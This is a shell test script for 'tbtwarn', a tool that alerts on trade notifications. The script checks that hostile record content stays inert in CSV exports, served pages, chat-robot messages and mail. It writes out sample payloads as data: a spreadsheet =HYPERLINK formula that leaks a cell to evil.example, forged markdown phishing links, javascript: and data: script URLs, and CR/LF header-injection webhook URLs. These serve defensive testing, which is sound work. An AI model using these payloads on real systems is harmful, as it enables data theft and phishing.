#!/bin/sh
# t92: what a hostile source or subscriber writes stays inert wherever a person reads it: CSV cells that look like
# formulas, javascript: and data: links, markdown that would forge a robot's "查看详情" link; addresses and URLs that
# are not what they seem are refused at subscribe time; doctor notices a record changed behind tbtwarn's back.
. "$(dirname "$0")/lib.sh"
SECRET=whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw
node "$ROOT/tests/node/receiver.mjs" "$SECRET" > "$TMP/wport" &
wr=$!
trap 'kill $wr $srv 2>/dev/null; rm -rf "$TMP"' EXIT
i=0
while [ ! -s "$TMP/wport" ] && [ $i -lt 500 ]; do i=$((i + 1)); sleep 0.01; done
W=http://127.0.0.1:$(head -n 1 "$TMP/wport")

python3 - "$ROOT/tests/data/samples/eping-2025-03-a.json" "$TMP/hostile.json" <<'PY'
import json, sys
item = json.load(open(sys.argv[1], encoding="utf-8"))["items"][0]
item = dict(item)
item["documentSymbol"] = "G/TBT/N/USA/9901"
item["titlePlain"] = item["title"] = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"lithium battery safety\") [查看详情](http://evil.example/phish)\n[查看详情](http://evil.example/line)"
item["linkToNotification"] = "javascript:alert(document.cookie)"
item["notifiedDocumentLink"] = "data:text/html,<script>alert(1)</script> https://docs.example.org/ok.pdf"
json.dump({"items": [item]}, open(sys.argv[2], "w", encoding="utf-8"), ensure_ascii=False)
PY
"$TBTWARN" import "$TMP/hostile.json" > /dev/null

# CSV: a cell that starts like a formula is text.
step "CSV"
run "$TBTWARN" search --csv 'symbol:G/TBT/N/USA/9901'
expect_match "search --csv neutralises a formula" "$out" "^G/TBT/N/USA/9901,.*,\"'=HYPERLINK\(\"\"http"
"$TBTWARN" serve --listen 127.0.0.1:0 > "$TMP/serve.out" 2> "$TMP/serve.log" &
srv=$!
i=0
while ! grep -q serving "$TMP/serve.out" 2>/dev/null && [ $i -lt 500 ]; do i=$((i + 1)); sleep 0.01; done
BASE=$(sed -n 's|^tbtwarn: serving \(http://[0-9.:]*\)/$|\1|p' "$TMP/serve.out")
got=$(curl -s "$BASE/api/export.csv?q=symbol:G/TBT/N/USA/9901" | python3 -c '
import csv, re, sys
rows = list(csv.reader(sys.stdin.read().lstrip("\ufeff").splitlines()))
# A number (days_left of a passed deadline is negative) is a number to a spreadsheet, not a formula.
print(sorted(set(c[0] for c in rows[1] if c and c[0] in "=+-@'"'"'" and not re.fullmatch(r"-?[0-9]+", c))))')
expect_eq "export.csv: no cell starts with = + - @ unless it is a plain number (each is quoted text)" "$got" "[\"'\"]"

# Links: only plain web addresses are kept.
step "Links"
got=$("$TBTWARN" show --json G/TBT/N/USA/9901 | python3 -c 'import json,sys; n=json.load(sys.stdin); print(n.get("notification_url"), n.get("document_urls"))')
expect_eq "javascript: and data: links are not stored; the https one is" "$got" "None ['https://docs.example.org/ok.pdf']"
page=$(curl -s "$BASE/api/notifications/G/TBT/N/USA/9901")
expect_eq "nor served" "$(printf '%s' "$page" | grep -ci 'javascript:\|data:text')" 0
kill $srv

# Robots and mail: the title cannot forge a link.
step "Robots and mail"
run "$TBTWARN" subscriber add --email li@gd-battery.example.cn --confirmed
A=$out
"$TBTWARN" subscription add "$A" --channel wecom --url "$W/wecom" --member USA > /dev/null
"$TBTWARN" subscription add "$A" --channel feishu --url "$W/feishu" --member USA > /dev/null
"$TBTWARN" subscription add "$A" --channel email --member USA > /dev/null
sed 's/G\/TBT\/N\/USA\/9901/G\/TBT\/N\/USA\/9902/' "$TMP/hostile.json" > "$TMP/hostile2.json"
"$TBTWARN" import "$TMP/hostile2.json" > /dev/null
run env TBTWARN_SMTP_URL=maildir:$TMP/mail TBTWARN_ALLOW_TARGETS=127.0.0.0/8 "$TBTWARN" alert --once
got=$(curl -s "$W/log" | python3 -c '
import json, re, sys, urllib.parse
log = json.load(sys.stdin)
w = [r["body"]["markdown"]["content"] for r in log if r["path"] == "/wecom"]
links = [m for c in w for m in re.findall(r"\[[^\]]*\]\(([^)]*)\)", c)]
f = [r["body"] for r in log if r["path"] == "/feishu"]
hrefs = [e.get("href") for b in f for p in b["content"]["post"]["zh_cn"]["content"] for e in p if e.get("tag") == "a"]
origin = lambda u: "%s://%s" % urllib.parse.urlsplit(u)[:2]
pages = sorted(set(urllib.parse.urlsplit(h).path.split("/")[1] for h in hrefs))
wellformed = all(re.fullmatch(r"https?://[^\s()\[\]]+", h) for h in hrefs)
print(len(w), sorted(set(origin(l) for l in links)), len(f), sorted(set(origin(h) for h in hrefs)), pages, wellformed)')
expect_eq "WeCom and Feishu messages link to tbtwarn alone; Feishu's links, details and the impact report, each whole" "$got" \
	"2 ['http://127.0.0.1:8080'] 2 ['http://127.0.0.1:8080'] ['impact', 'n'] True"
expect_eq "the HTML mail has no javascript: link" "$(grep -rli 'href="javascript' "$TMP/mail/new" | wc -l)" 0

# Addresses and URLs that are not what they seem.
step "Addresses and URLs that are not what they seem"
for bad in "$(printf 'li\377@firm.example.cn')" "li@[127.0.0.1]" "li@127.0.0.1" "li%evil.example@firm.example.cn" \
	"li..wang@firm.example.cn" ".li@firm.example.cn" "li@firm..example.cn" "li@-firm.example.cn" "li@firm.example.123"; do
	run "$TBTWARN" subscriber add --email "$bad"
	[ "$rc" -ne 0 ] || not_ok "subscriber add refuses '$bad'" "exit status: $rc (want non-zero)" "said: $out"
done
ok "subscriber add refuses invalid UTF-8, IP literals, '%', '..' and numeric top-level domains"
run "$TBTWARN" subscriber add --email 李明@例子.中国
expect_eq "an internationalised address is accepted" "$rc" 0
for u in "$(printf 'https://hook.example/x\r\nX-Injected: 1')" "https://hook.example/a b" "https://hook.example/\"><script>" "javascript:alert(1)" "https://[::1]x]/" "https://hook.example/[x](http://evil)" "https:///nohost"; do
	run "$TBTWARN" subscription add "$A" --channel webhook --url "$u" --member USA
	[ "$rc" -ne 0 ] || not_ok "subscription add refuses the URL '$u'" "exit status: $rc (want non-zero)" "said: $out"
done
ok "subscription add refuses URLs with CR/LF, spaces, quotes, other schemes or no host"
expect_match "saying why, on one line" "$err" "needs an http or https address without spaces or control characters, got 'https:///nohost'"

# doctor notices a record changed behind tbtwarn's back.
step "doctor notices a record changed behind tbtwarn's back"
db_query "$TBTWARN_DATA" "UPDATE notifications SET doc = replace(doc, 'lithium', 'lithiun') WHERE symbol = 'G/TBT/N/USA/9901'"
run "$TBTWARN" doctor
expect_match "doctor checks every record's content hash" "$out" "^FAIL every record matches its content hash \(2 checked\): 1 do not \(G/TBT/N/USA/9901\)"
